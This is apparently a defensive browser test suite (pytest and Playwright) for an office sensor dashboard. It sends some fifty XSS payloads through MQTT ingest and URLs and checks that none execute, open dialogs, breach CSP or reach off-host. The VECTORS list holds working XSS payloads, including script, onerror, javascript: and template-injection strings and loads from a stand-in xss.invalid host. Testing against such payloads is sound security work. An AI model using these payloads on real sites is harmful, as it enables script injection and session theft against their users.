"""XSS vectors published over MQTT through the real pipeline, then every page visited.

About fifty vectors go in as metric names (the topic's third level), sensor names (the status
topic's third level and the payload's ``Sensor`` field) and values; ingest must reject each
such message (the names' and values' rules allow none of them), count it and keep it in the
quarantine, which the browser then shows as JSON. Names that the rules accept but that are
hostile to JavaScript (``constructor``, ``toString``, ``NaN``...) and extreme numbers do get
stored, and their pages (ranges 1h/24h/7d, each sensor) are drawn and their charts hovered.
The vectors also travel in URLs: paths, ``?sensor=``, ``?range=``, ``?start=``, and the API.

Every vector's script sets ``window.__xss``, calls ``alert`` or fetches off-host: on every page
no dialog may open, ``__xss`` stays undefined, no element carries an event-handler attribute
or a ``javascript:`` URL, no CSP violation is reported (``securitypolicyviolation`` events and
console errors), and no request leaves 127.0.0.1 (the ``new_tab`` fixture fails the test on
console errors and off-host requests; the only console errors filtered out are Chromium's own
"status of 400/404" lines for the error pages this test asks for on purpose).

Runs last in the session (file order): it adds series that the other browser tests do not
expect.
"""

from __future__ import annotations

import json
import re
import time
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from playwright.sync_api import Dialog

from officesensor.models import Rejection
from officesensor.payload import is_status_topic, parse_message, parse_status, printable
from officesensor.web.series import metric_slugs
from tests.browser.conftest import (
    CHART_READY,
    SERVER_ZONE,
    Dashboard,
    Sensor,
    Tab,
)
from tests.integration.conftest import wait_for

pytestmark = pytest.mark.browser

#: Each one, if it ran, would set window.__xss, open a dialog or fetch from xss.invalid.
VECTORS = [
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__xss=1">',
    '"><svg onload=alert(1)>',
    "'><svg/onload=window.__xss=1>",
    '"><img src=x onerror=alert(document.domain)>',
    "javascript:alert(1)",
    "JaVaScRiPt:window.__xss=1",
    "java\tscript:alert(1)",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`><img src=x onerror=alert`1`>",
    "` onerror=`window.__xss=1",
    "</script><script>alert(1)</script>",
    "</script><img src=x onerror=window.__xss=1>",
    '"}</script><script>alert(1)</script>',
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    "{{7*7}}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${alert(1)}",
    "{% raw %}{{ config }}{% endraw %}",
    "<%= 7*7 %>",
    "\u202e<script>alert(1)</script>",
    "\u200b<img src=x onerror=alert(1)>",
    '\ufeff"><svg onload=alert(1)>',
    "＜script＞alert(1)＜/script＞",
    "<style>body{display:none}</style>",
    "<style>@import 'http://xss.invalid/x.css';</style>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">click</a>',
    '<base href="//xss.invalid/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '"-alert(1)-"',
    "';alert(1);//",
    '\\";alert(1);//',
    "</textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
]

#: Names the payload rules accept that JavaScript code might trip over (object keys of every
#: object, values that read as numbers or as null), as metrics and as sensors.
HOSTILE_METRICS = ["constructor", "toString", "NaN"]
HOSTILE_SENSORS = ["valueOf", "null", "1e309", "a..b"]
#: Values the rules accept, at the edges of what a chart and its tooltips print.
EDGE_VALUES = [1e12, -1e12, 5e-324, -0.0, 123456.789, 0.1 + 0.2]

PROBE_METRIC = "XssProbe"  # the metric of the messages that carry a vector in a field
RANGES = ("1h", "24h", "7d")
EXPECTED_CONSOLE = re.compile(
    r"error: Failed to load resource: the server responded with a status of 40[04] "
)

#: Collects, in every document, what a vector would leave if it got into the markup.
FIND_INJECTED = """() => {
  const found = [];
  const urlAttrs = ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"];
  const visit = (root) => {
    for (const el of root.querySelectorAll("*")) {
      const tag = el.tagName.toLowerCase();
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        const value = attr.value.trim().toLowerCase();
        if (name.startsWith("on")) { found.push(`${tag}[${name}]`); }
        if (urlAttrs.includes(name) && (value.startsWith("javascript:") || value.includes("xss")
            || name === "srcdoc")) {
          found.push(`${tag}[${name}=${value}]`);
        }
      }
      if (["iframe", "frame", "object", "embed", "base"].includes(tag)) { found.push(tag); }
      if (tag === "form" && el.id !== "custom-range") { found.push("form"); }
      if (tag === "meta" && el.hasAttribute("http-equiv")) { found.push("meta[http-equiv]"); }
      if (tag === "script" && !el.hasAttribute("src") && el.type !== "application/json") {
        found.push("inline script: " + el.textContent.slice(0, 80));
      }
      if (tag === "style" && /xss|body\\s*\\{/i.test(el.textContent)) {
        found.push("style: " + el.textContent.slice(0, 80));
      }
      if (el.shadowRoot) { visit(el.shadowRoot); }
    }
  };
  visit(document);
  return { xss: typeof window.__xss, found };
}"""

#: Reports CSP violations across navigations (the binding lives in the context).
CSP_LISTENER = """document.addEventListener("securitypolicyviolation", (event) => {
  window.__reportCsp(`${event.violatedDirective} blocked ${event.blockedURI}`
                     + ` at ${event.sourceFile}:${event.lineNumber}: ${event.sample}`);
});"""


@dataclass
class Watch:
    """What the vectors did, if anything, in one tab."""

    tab: Tab
    dialogs: list[str] = field(default_factory=list)
    csp: list[str] = field(default_factory=list)
    visited: int = 0

    def check(self, where: str) -> None:
        state = self.tab.page.evaluate(FIND_INJECTED)
        assert state["xss"] == "undefined", f"a vector's script ran on {where}"
        assert state["found"] == [], f"injected markup on {where}: {state['found']}"
        assert self.dialogs == [], f"dialogs opened by {where}: {self.dialogs}"
        assert self.csp == [], f"CSP violations on {where}: {self.csp}"

    def visit(self, path: str, expect: int | None = None) -> int:
        response = self.tab.page.goto(self.tab.base + path)
        assert response is not None, path
        status = response.status
        assert status < 500, f"{path} answered {status}"
        if expect is not None:
            assert status == expect, f"{path} answered {status}, not {expect}"
        self.check(path)
        self.visited += 1
        return status

    def done(self) -> None:
        """Drop Chromium's own lines about the 4xx pages asked for on purpose."""
        log = self.tab.log
        log.console_errors = [m for m in log.console_errors if not EXPECTED_CONSOLE.match(m)]


def watch(tab: Tab) -> Watch:
    watched = Watch(tab)

    def on_dialog(dialog: Dialog) -> None:
        watched.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    tab.page.on("dialog", on_dialog)

    def on_csp(report: str) -> None:
        watched.csp.append(report)

    tab.page.context.expose_function("__reportCsp", on_csp)
    tab.page.context.add_init_script(CSP_LISTENER)
    return watched


# ----------------------------------------------------------------------------- publishing


@dataclass
class Published:
    rejected: Counter[str]  # reason -> messages, as the parser decides
    accepted: list[tuple[str, str]]  # (sensor, metric)


def _rejections_before(dashboard: Dashboard) -> Counter[str]:
    return Counter(dashboard.json("/api/ingest")["rejected"])


def _expect_rejected(topic: str, payload: bytes, now: datetime) -> str:
    if is_status_topic(topic.encode()):
        outcome: Any = parse_status(topic.encode(), payload, now)
    else:
        outcome = parse_message(topic, payload, now=now, sensor_tz=ZoneInfo(SERVER_ZONE))
    assert isinstance(outcome, Rejection), f"ingest would accept {topic} {payload!r}"
    return str(outcome.reason.value)


def _fits_a_topic_level(vector: str) -> bool:
    # MQTT forbids wildcards and NUL in a published topic, and Mosquitto drops a client that
    # sends control characters in one; "/" would make it another level, one that ingest does
    # not subscribe to.
    return not any(c in "/+#" or ord(c) < 32 or 127 <= ord(c) < 160 for c in vector)


@pytest.fixture(scope="module")
def published(dashboard: Dashboard, sensor: Sensor) -> Published:
    before = _rejections_before(dashboard)
    expected: Counter[str] = Counter()
    now = datetime.now(UTC)
    stamp = {"ID": 1, "Timestamp": now.isoformat()}

    def send(topic: str, document: dict[str, Any]) -> None:
        payload = json.dumps(document).encode()
        expected[_expect_rejected(topic, payload, datetime.now(UTC))] += 1
        sensor.publisher.publish(topic, payload)

    for vector in VECTORS:
        send(f"office/metrics/{PROBE_METRIC}", {PROBE_METRIC: 1.0, **stamp, "Sensor": vector})
        send(f"office/metrics/{PROBE_METRIC}", {PROBE_METRIC: vector, **stamp})
        if _fits_a_topic_level(vector):
            send(f"office/metrics/{vector}", {vector: 1.0, **stamp})
            send(f"office/status/{vector}", {"Online": True})

    accepted = []
    for i, metric in enumerate(HOSTILE_METRICS):
        for j, name in enumerate(["default", *HOSTILE_SENSORS]):
            values = EDGE_VALUES if (i, j) == (0, 1) else [20.0 + i, 21.0 + j, 20.5]
            start = now - timedelta(minutes=5 * len(values))
            for k, value in enumerate(values):
                sensor.publish(metric, value, start + timedelta(minutes=5 * k), name)
            accepted.append((name, metric))

    def arrived() -> bool:
        series = {(s["sensor"], s["metric"]) for s in dashboard.json("/api/series")}
        counted = _rejections_before(dashboard) - before
        return set(accepted) <= series and counted == expected

    wait_for(arrived, 30, "ingest to store the hostile names and count every rejection")
    return Published(expected, accepted)


def test_ingest_rejects_every_vector_and_quarantines_it(published, dashboard):
    total = sum(published.rejected.values())
    assert total >= 2 * len(VECTORS)
    assert set(published.rejected) <= {
        "bad_sensor_name",
        "bad_metric_name",
        "bad_value_type",
    }, published.rejected
    quarantine = dashboard.json("/api/quarantine?limit=1000")
    previews = "\n".join(m["payload_preview"] for m in quarantine)
    for vector in VECTORS:
        # The preview is printable(payload): escaping is per character, so the vector's JSON
        # string, escaped the same way, is part of it.
        shown = printable(json.dumps(vector), limit=10_000)
        assert shown in previews, f"{vector!r} is not in the quarantine"


# ----------------------------------------------------------------------------- the pages


def test_no_vector_runs_on_the_overview_or_in_the_json_views(published, tab: Tab):
    w = watch(tab)
    for path in (
        "/",
        "/api/quarantine?limit=1000",
        "/api/ingest",
        "/api/series",
        "/api/conflicts",
        "/api/openapi.json",
    ):
        w.visit(path, expect=200)
    tab.goto("/")
    tab.wait_live()
    body = tab.page.locator("main").inner_text()
    for sensor_name, metric in published.accepted:
        assert sensor_name in body
        assert metric in body
    w.check("/ (live)")
    w.done()


def test_no_vector_runs_on_the_hostile_series_pages_and_their_tooltips(
    published, tab: Tab, dashboard: Dashboard
):
    w = watch(tab)
    slugs = metric_slugs(sorted({s["metric"] for s in dashboard.json("/api/series")}))
    edge = (HOSTILE_SENSORS[0], HOSTILE_METRICS[0])  # the series with the edge values
    for sensor_name, metric in published.accepted:
        # Every range for the usual sensor and the edge values; the last hour for the rest.
        spans = RANGES if sensor_name == "default" or (sensor_name, metric) == edge else ["1h"]
        for span in spans:
            path = f"/{slugs[metric]}?sensor={quote(sensor_name)}&range={span}"
            w.visit(path, expect=200)
            tab.page.wait_for_selector(CHART_READY, timeout=15_000)
            if span == "1h":
                hover_across_the_chart(tab)
            w.check(path + " (drawn, hovered)")
    w.done()


def hover_across_the_chart(tab: Tab) -> None:
    box = tab.page.locator("#chart").bounding_box()
    assert box is not None
    shown = []
    for step in range(1, 20):
        tab.page.mouse.move(box["x"] + box["width"] * step / 20, box["y"] + box["height"] / 2)
        tip = tab.page.locator(".bk-tooltip-content")
        if tip.count():
            shown.append(" ".join(tip.first.all_inner_texts()))
    assert any(shown), "no tooltip appeared while hovering over the chart"
    tab.page.mouse.move(0, 0)


URL_KINDS = {
    "metric path": lambda v: "/" + quote(v, safe=""),
    "sensor query": lambda v: "/temperature?sensor=" + quote(v, safe=""),
    "range query": lambda v: "/temperature?range=" + quote(v, safe=""),
    "start and end": lambda v: f"/temperature?start={quote(v, safe='')}&end=x",
    "api metric": lambda v: "/api/readings?metric=" + quote(v, safe=""),
    "api sensor": lambda v: "/api/chart?metric=Temperature&sensor=" + quote(v, safe=""),
}


@pytest.mark.parametrize("kind", list(URL_KINDS))
def test_no_vector_runs_on_error_pages_that_echo_it(published, tab: Tab, kind: str):
    w = watch(tab)
    started = time.monotonic()
    statuses: Counter[int] = Counter()
    for vector in VECTORS:
        path = URL_KINDS[kind](vector)
        status = w.visit(path)
        statuses[status] += 1
        if kind == "sensor query":
            assert status == 404
            shown = tab.page.locator("main").text_content() or ""
            assert vector in shown, f"the 404 for sensor {vector!r} does not show it as text"
    assert w.visited == len(VECTORS)
    assert set(statuses) <= {400, 404}, statuses
    assert time.monotonic() - started < 120
    w.done()


def test_the_watch_sees_a_vector_that_gets_in(tab: Tab):
    """The detectors can fail: markup injected on purpose, a dialog and a CSP violation."""
    w = watch(tab)
    tab.goto("/")
    tab.page.evaluate(
        """() => {
            const div = document.createElement("div");
            div.innerHTML = '<img src="data:," onerror="window.__xss=1">'
                + '<a href="javascript:alert(1)">x</a>';
            document.body.append(div);
            const script = document.createElement("script");
            script.textContent = "window.__xss = 2";  // refused by the CSP: reported
            document.body.append(script);
        }"""
    )
    tab.page.evaluate("() => setTimeout(() => alert('planted'), 0)")
    for _ in range(100):  # Playwright delivers events while it runs: wait in the page
        if len(w.csp) >= 2 and w.dialogs:  # the inline script and the inline handler
            break
        tab.page.wait_for_timeout(100)
    state = tab.page.evaluate(FIND_INJECTED)
    assert "img[onerror]" in state["found"]
    assert "a[href=javascript:alert(1)]" in state["found"]
    with pytest.raises(AssertionError):
        w.check("the planted page")
    assert w.dialogs == ["alert: planted"]
    assert any("script-src" in report for report in w.csp), w.csp
    assert any("inline" in report for report in w.csp), w.csp
    # Chromium's console lines for the refused script and handler are this test's own doing.
    tab.page.wait_for_timeout(200)
    tab.log.console_errors = [
        m for m in tab.log.console_errors if "Content Security Policy" not in m
    ]
